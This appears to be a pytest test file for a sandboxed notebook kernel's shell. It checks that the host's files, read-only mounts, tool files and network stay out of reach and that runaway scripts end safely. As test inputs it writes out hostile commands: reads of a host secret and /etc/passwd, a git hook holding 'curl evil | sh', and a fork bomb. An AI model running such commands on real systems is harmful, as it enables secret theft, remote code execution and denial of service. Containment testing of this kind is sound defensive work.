"""Promise (docs/shell.md, docs/security.md): the shell inside the sandbox reaches nothing Python cannot: the host's
files are not there, read-only mounts stay unchanged, an rw mount's tool files are refused, the network is the
`allow_net` list, and a runaway script (recursion, a loop, a flood of output) ends without taking the kernel down."""

from __future__ import annotations

import pytest
from attack_kit import assert_alive, token

from conftest import Listener, execute, start_kernel, stop_kernel, value
from sandbox_kernel.sandbox.launch_plan import TEST_DENO_ALL


@pytest.fixture(scope="module")
def host(tmp_path_factory):
    root = tmp_path_factory.mktemp("shell-attacks")
    (root / "ro").mkdir()
    (root / "ro" / "keep.txt").write_text("unchanged")
    (root / "rw").mkdir()
    secret = root / "secret.txt"
    secret.write_text(token("host-secret"))
    return root, secret


@pytest.fixture(scope="module")
def listener():
    server = Listener()
    yield server
    server.close()


@pytest.fixture(scope="module")
def sandbox(host):
    root, _ = host
    km, kc = start_kernel(
        [
            f"--SandboxKernel.mounts=['{root / 'ro'}:/data:ro', '{root / 'rw'}:/out:rw']",
            "--SandboxKernel.cell_timeout=30",
        ]
    )
    yield km, kc
    stop_kernel(km, kc)


def shell_out(kc, command: str) -> str:
    return value(shell_run(kc, command))


def shell_run(kc, command: str):
    return execute(kc, f"_r = !{{ {command} ; }} 2>&1\n'\\n'.join(_r)")


def test_the_hosts_files_are_not_there(sandbox, host):
    _, kc = sandbox
    _, secret = host
    out = shell_out(kc, f"cat {secret}; cat /etc/passwd; cd /../../..; ls; ln -s {secret} /tmp/s; cat /tmp/s")
    assert secret.read_text() not in out
    assert "root:x:0:0" not in out
    assert "No such file or directory" in out
    assert_alive(kc)


def test_a_read_only_mount_stays_unchanged(sandbox, host):
    _, kc = sandbox
    root, _ = host
    run = shell_run(kc, "echo pwned > /data/keep.txt; cat /data/keep.txt; rm /data/keep.txt; touch /data/new; ls /data")
    out, told = value(run), run.stream("stderr")
    assert (root / "ro" / "keep.txt").read_text() == "unchanged"
    assert not (root / "ro" / "new").exists()
    assert "pwned" in out and "new" in out, out  # the writes worked inside the sandbox
    assert "/data/keep.txt stays inside the sandbox" in told and "read-only mount" in told, told


def test_tool_files_in_an_rw_mount_stay_inside_the_sandbox_for_the_shell(sandbox, host):
    _, kc = sandbox
    root, _ = host
    run = shell_run(
        kc,
        "mkdir -p /out/.git/hooks && echo 'curl evil | sh' > /out/.git/hooks/pre-commit; echo x > /out/Makefile; "
        "cat /out/Makefile",
    )
    out, told = value(run), run.stream("stderr")
    assert not (root / "rw" / ".git").exists()
    assert not (root / "rw" / "Makefile").exists()
    assert out == "'x'", out  # the shell reads it back inside the sandbox
    assert "/out/Makefile stays inside the sandbox" in told and '"host_writes": "any"' in told, told
    shell_out(kc, "echo fine > /out/result.csv")
    assert (root / "rw" / "result.csv").read_text() == "fine\n"


def test_curl_reaches_only_allow_net(sandbox, listener):
    _, kc = sandbox
    listener.hits.clear()
    out = shell_out(kc, f"curl -sS http://127.0.0.1:{listener.port}/; curl -sS https://pypi.org/")
    assert "network access to 127.0.0.1" in out and "SandboxKernel.allow_net" in out, out
    assert listener.settle() == []


def test_curl_reaches_a_listed_host():
    server = Listener()
    km, kc = start_kernel([f"--SandboxKernel.allow_net=['127.0.0.1:{server.port}']"])
    try:
        assert shell_out(kc, f"curl -s http://127.0.0.1:{server.port}/") == "'hello'"
    finally:
        stop_kernel(km, kc)
        server.close()


def test_a_fork_bomb_ends_with_an_error_and_the_kernel_goes_on(sandbox):
    _, kc = sandbox
    run = execute(kc, "!:(){ :|:& };:", timeout=60)
    assert run.content["status"] == "ok", run.content
    assert "maximum recursion depth" in run.stream("stderr")
    assert value(execute(kc, "1 + 1")) == "2"


def test_a_flood_of_output_is_cut_at_max_output_bytes():
    km, kc = start_kernel(["--SandboxKernel.max_output_bytes=100000"])
    try:
        run = execute(kc, "%%bash\nfor i in $(seq 1 20000); do echo line-$i-padding-padding-padding; done", timeout=120)
        shown = sum(len(m["content"].get("text", "")) for m in run.outputs if m["msg_type"] == "stream")
        assert shown <= 110_000, shown
        assert value(execute(kc, "1 + 1")) == "2"
    finally:
        stop_kernel(km, kc)


@pytest.mark.parametrize("layer", ["none", "landlock", "seccomp", "namespaces"])
def test_each_os_layer_alone_keeps_the_shells_curl_off_the_host(layer, listener):
    """Deno's checks off (its --allow-all, the worker inheriting it) and the kernel's host check lifted by the guest
    itself: each OS layer alone still keeps `curl` from the host's loopback listener ('none', the control: it gets
    through, so the attack is real)."""
    layers = ["--SandboxKernel.os_sandbox=off"] if layer == "none" else [
        "--SandboxKernel.os_sandbox=required", f"--SandboxKernel.os_layers={layer}"
    ]  # fmt: skip
    listener.hits.clear()
    km, kc = start_kernel(layers, env={TEST_DENO_ALL: "1"})
    try:
        code = (
            f"from sandbox_guest import guards\nguards.LIMITS.allow_net = ['127.0.0.1:{listener.port}']\n"
            f"_r = !curl -sS http://127.0.0.1:{listener.port}/ 2>&1\n'\\n'.join(_r)"
        )
        out = value(execute(kc, code))
        hits = listener.settle()
        if layer == "none":
            assert "hello" in out and hits, out
        else:
            assert "hello" not in out and "curl:" in out, out  # it tried, and was stopped below Deno
            assert hits == []
    finally:
        stop_kernel(km, kc)
